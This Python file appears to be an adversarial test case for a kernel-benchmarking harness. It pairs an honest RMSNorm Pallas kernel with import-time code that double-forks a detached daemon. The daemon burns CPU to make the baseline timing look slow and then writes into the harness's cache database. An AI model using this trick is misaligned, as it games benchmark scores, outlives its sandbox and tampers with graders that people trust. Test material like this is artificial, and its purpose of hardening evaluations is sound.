# target: 12p_RMSNorm
# expect: correct
# exploit: surviving daemon - at import, double-forks a setsid() daemon (its command line carries
#          the marker `jb-trust-daemon`) that burns a core for up to 10 minutes, so the baseline
#          measured after it looks slow, and then appends to the cache's database; the candidate's
#          own kernel is honest. Armed only inside jb's sandbox (JB_SANDBOXED=1) or with
#          JB_ATTACK_ARMED=1.
import os
import sys

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

MARKER = "jb-trust-daemon"
DAEMON = f"""
# {MARKER}
import os, pathlib, time
end = time.time() + 600
while time.time() < end:
    sum(i * i for i in range(10000))
for root in (pathlib.Path.cwd(),):
    try:
        with open(root / "cache" / "jb.sqlite", "a") as f:
            f.write("# {MARKER}\\n")
    except OSError:
        pass
"""


def _daemonize():
    pid = os.fork()
    if pid != 0:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.execv(sys.executable, [sys.executable, "-c", DAEMON, MARKER])
    finally:
        os._exit(0)


if os.environ.get("JB_SANDBOXED") == "1" or os.environ.get("JB_ATTACK_ARMED") == "1":
    _daemonize()


def _kernel(x_ref, s_ref, o_ref):
    x = x_ref[...].astype(jnp.float32)
    y = x * jax.lax.rsqrt(jnp.mean(x * x, axis=-1, keepdims=True) + 1e-5)
    o_ref[...] = (y * s_ref[...].astype(jnp.float32)).astype(o_ref.dtype)


def workload(x, scale):
    b, s, d = x.shape
    out = pl.pallas_call(_kernel, out_shape=jax.ShapeDtypeStruct((b * s, d), x.dtype))(
        x.reshape(b * s, d), scale.reshape(1, d))
    return out.reshape(b, s, d)
